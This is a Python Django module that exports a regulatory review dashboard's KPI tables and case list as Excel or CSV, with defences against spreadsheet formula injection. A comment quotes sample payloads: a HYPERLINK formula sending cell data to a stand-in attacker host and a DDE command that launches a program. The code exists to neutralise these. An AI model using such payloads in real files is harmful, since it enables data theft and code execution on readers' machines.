"""Every dashboard table, and the filtered case list, as Excel (openpyxl) or CSV.

A table is ``(name, title, headers, rows)``; the same tables feed the page, the downloads and the
``kpi_report`` command, so the three never disagree.
"""

from __future__ import annotations

import csv
import io
import re

from django.utils.text import capfirst
from django.utils.translation import gettext as _
from django.utils.translation import pgettext, pgettext_lazy
from openpyxl import Workbook
from openpyxl.styles import Font
from openpyxl.utils import get_column_letter

TABLE_NAMES = ("stages", "cases", "trend", "workload", "urgent", "applicant", "case_list")

# The downloads' file names, one per table and none shared: kpi-<name>-<start>-<end>.csv, the case
# list's workbook kpi-case-list-….xlsx (the case-level figures were kpi-cases-….csv, the case
# list's workbook kpi-cases-….xlsx: two things under one name).
FILE_NAMES = {
    "stages": "stages", "cases": "case-figures", "trend": "trend", "workload": "workload",
    "urgent": "overdue-due-soon", "applicant": "applicant-side", "case_list": "case-list",
}

# The sheets' tabs, read by people: short (Excel allows 31 characters, none of []:*?/\).
SHEET_TITLES = {
    "stages": pgettext_lazy("sheet", "Stages"),
    "cases": pgettext_lazy("sheet", "Case figures"),
    "trend": pgettext_lazy("sheet", "Trend by month"),
    "workload": pgettext_lazy("sheet", "Workload"),
    "applicant": pgettext_lazy("sheet", "Applicant side"),
    "urgent": pgettext_lazy("sheet", "Overdue and due soon"),
    "case_list": pgettext_lazy("sheet", "Case list"),
    "filters": pgettext_lazy("sheet", "Period and filters"),
}
_SHEET_FORBIDDEN = re.compile(r"[\[\]:*?/\\]")

# The case list's coded columns, shown as the labels people read (the request's language).
CASE_LIST_CODED = ("device_class", "category", "application_type", "pathway", "state")


def sheet_title(name: str) -> str:
    return _SHEET_FORBIDDEN.sub(" ", str(SHEET_TITLES.get(name, name))).strip()[:31]


def _pct(v):
    return "" if v is None else v


def _num(v):
    """A limit of one number is a number (a cell Excel can sum); a range ("10–20") stays text."""
    return int(v) if isinstance(v, str) and v.isdigit() else v


def tables(data: dict, *, include_lists: bool = True) -> list[tuple[str, str, list[str], list[list]]]:
    out = [(
        "stages", _("Stage kinds"),
        [_("Stage"), _("Open now"), _("Past target now"), _("Past statutory limit now"),
         _("Waiting for the applicant"), _("Finished in the period"), _("Average working days"),
         _("90th percentile working days"), _("Target (WD)"), _("Statutory limit (WD)"),
         _("Plan baseline (WD)"), _("On time against the target (%)"),
         _("On time against the statutory limit (%)"), _("Finished late (target)"),
         _("Finished late (statutory limit)"),
         # What the rates are over: the finished stages that have the limit (Class II QMS
         # verification has no statutory limit, Order 47 Art. 48, 98).
         _("Finished with a target"), _("Finished with a statutory limit")],
        [[r.label, r.open_now, r.past_target, r.past_statutory, r.applicant_waiting, r.done,
          _pct(r.avg_days), _pct(r.p90_days), _num(r.target), _num(r.statutory), _num(r.baseline),
          _pct(r.on_target),
          _pct(r.on_statutory), r.late_target, r.late_statutory, r.n_target, r.n_statutory]
         for r in data["stages"]],
    )]
    c = data["cases"]
    out.append((
        "cases", _("Case-level figures (calendar days)"), [_("Figure"), _("Value")],
        [[_("Cases decided in the period"), c.decided],
         [_("Average total time, acceptance to decision (days)"), _pct(c.avg_total)],
         [_("Average applicant days (days)"), _pct(c.avg_applicant)],
         [_("Average office days (days)"), _pct(c.avg_office)],
         [_("Longest total time (days)"), _pct(c.max_total)],
         [_("Lishui: licences issued in the period"), c.lishui_count],
         [_("Lishui: average intent to licence (days)"), _pct(c.lishui_avg)],
         [_("Lishui reference figure (WD)"),
          _("%(n)s (%(source)s)") % {"n": c.lishui_reference, "source": c.lishui_source}]],
    ))
    out.append((
        "trend", _("Trend by month"),
        [_("Month"), _("Stage"), _("Finished"), _("Average working days"), _("On time against the target (%)")],
        [[r["month"].strftime("%Y-%m"), r["label"], r["n"], r["avg"], _pct(r["on_target"])] for r in data["trend"]],
    ))
    states = data["workload_states"]
    out.append((
        "workload", _("Workload: open stages by deadline state"),
        [_("Stage"), *[str(label) for _k, label, _c in states], _("Total")],
        [[r["label"], *[r["counts"].get(k, 0) for k, _l, _c in states], r["total"]] for r in data["workload"]],
    ))
    out.append((
        "applicant", _("The applicant's side (not the office's time)"),
        [_("Stage"), _("Request"), _("Open now"), _("Average days waited so far"),
         _("Past the applicant's deadline"), _("Answered in the period"), _("Average days to answer"),
         _("Ended unanswered in the period")],
        [[r["kind"], r["reason"], r["open"], _pct(r["waited"]), r["past"], r["answered"], _pct(r["to_answer"]),
          r["unanswered"]]
         for r in data["applicant"]],
    ))
    if include_lists:
        out.append((
            "urgent", _("Overdue and due soon"),
            [_("Case"), _("Product"), _("Stage"), _("Department"), _("Assignee"), _("Urgency"),
             _("Target date"), _("Statutory date"), _("Working days late"), _("Working days left")],
            # The page's "已超期 N 个工作日" / "还剩 N 个工作日", as numbers (views.dashboard_data).
            [[s.application.reference, s.application.product_name, s.get_kind_display(),
              str(s.department or ""), str(s.assignee or ""), str(data["urgency_labels"][s.urgency]),
              s.target_due, None if s.statutory_reference else s.statutory_due, s.days_late,
              s.days_left if s.days_left is not None and s.days_left >= 0 else None]
             for s in data["urgent"]],
        ))
    return out


def case_list_table(applications) -> tuple[str, str, list[str], object]:
    # The models' field names are lower case ("device class"): headings start with a capital.
    headers = [capfirst(h) for h in (
        _("Reference"), _("Product"), _("Enterprise"), _("District"), _("device class"), _("category"),
        _("application type"), _("pathway"), _("State"), _("policy pack"), _("submitted on"), _("accepted on"),
        _("closed on"))]
    columns = ("reference", "product_name", "enterprise__name", "enterprise__district", "device_class", "category",
               "application_type", "pathway", "state", "policy_pack__name", "submitted_on", "accepted_on",
               "closed_on")
    rows = applications.select_related(None).values_list(*columns).iterator(chunk_size=2000)
    return "case_list", _("Case list"), headers, _labelled(rows, columns)


def _labelled(rows, columns):
    """The coded columns as their labels: one dict per column, made once (in the request's
    language, before the response streams), so a row costs a dict look-up per coded cell."""
    from review.models import Application

    labels = [(i, {code: str(label) for code, label in Application._meta.get_field(c).flatchoices})
              for i, c in enumerate(columns) if c in CASE_LIST_CODED]

    def gen():
        for row in rows:
            row = list(row)
            for i, names in labels:
                row[i] = names.get(row[i], row[i])
            yield row
    return gen()


def filters_table(filters, *, today) -> tuple[str, str, list[str], list[list]]:
    """What a workbook is for, on its first sheet, in the reader's language: the period, the day
    the open figures are read at, and every filter ("All" where none was chosen)."""
    from review.models import Department, Office, PolicyPack
    from review.models.enums import ApplicationType, Category, DeviceClass, Pathway

    everything = _("All")

    def label(enum, value):
        return str(enum(value).label) if value else everything

    department = Department.objects.filter(pk=filters.department).first() if filters.department else None
    pack = PolicyPack.objects.filter(pk=filters.policy_pack).first() if filters.policy_pack else None
    office = Office.objects.filter(pk=filters.office).first() if filters.office else None
    rows = [
        [_("Period start"), filters.start], [_("Period end"), filters.end],
        [_("Open, past target and past statutory limit as of"), today],
        [capfirst(_("device class")), label(DeviceClass, filters.device_class)],
        [capfirst(_("category")), label(Category, filters.category)],
        [capfirst(_("pathway")), label(Pathway, filters.pathway)],
        [capfirst(_("application type")), label(ApplicationType, filters.application_type)],
        [capfirst(_("department")), str(department) if department else everything],
        [capfirst(_("district")), filters.district or everything],
        [capfirst(_("policy pack")), str(pack) if pack else everything],
        [capfirst(_("office")), str(office) if office else everything],
    ]
    return "filters", _("Period and filters"), [_("Condition"), pgettext("of a condition", "Value")], rows


# A cell a spreadsheet would read as a formula (OWASP "CSV injection"): a product name such as
# =HYPERLINK("http://evil.example/?leak="&A1,"点击查看") must reach the supervisor as the text the
# enterprise typed, never as a live formula or a DDE command (+cmd|' /C calc'!A0, @SUM(...)).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_safe(value):
    """A text cell for CSV: a leading ' when it starts like a formula (spreadsheets hide it and
    show the text); numbers and dates are written as they are."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def _xlsx_cell(ws, value, WriteOnlyCell):
    """Every text cell as a string cell: openpyxl turns a str starting with "=" into a formula."""
    if not isinstance(value, str):
        return value
    cell = WriteOnlyCell(ws, value=value)
    cell.data_type = "s"
    return cell


def write_xlsx(all_tables, stream) -> None:
    wb = Workbook(write_only=True)
    bold = Font(bold=True)
    from openpyxl.cell import WriteOnlyCell

    for name, title, headers, rows in all_tables:
        ws = wb.create_sheet(title=sheet_title(name))
        for i in range(len(headers)):  # write-only sheets take widths before the first row
            ws.column_dimensions[get_column_letter(i + 1)].width = 18
        ws.append([title])
        header_cells = []
        for h in headers:
            cell = WriteOnlyCell(ws, value=str(h))
            cell.font = bold
            header_cells.append(cell)
        ws.append(header_cells)
        for row in rows:
            ws.append([_xlsx_cell(ws, v, WriteOnlyCell) for v in row])
    wb.save(stream)


def write_csv(table, stream) -> None:
    """UTF-8 with a byte-order mark, so Excel opens the Chinese text correctly."""
    stream.write("\ufeff")
    csv.writer(stream).writerows(csv_cells(table))


def csv_cells(table):
    """The table's rows as CSV cells, the heading row first: the one place a CSV row is made
    (the downloads, the streamed case list and ``kpi_report``)."""
    _name, _title, headers, rows = table
    yield [csv_safe(str(h)) for h in headers]
    for row in rows:
        yield ["" if v is None else csv_safe(v) for v in row]


def csv_bytes(table) -> bytes:
    buf = io.StringIO()
    write_csv(table, buf)
    return buf.getvalue().encode("utf-8")
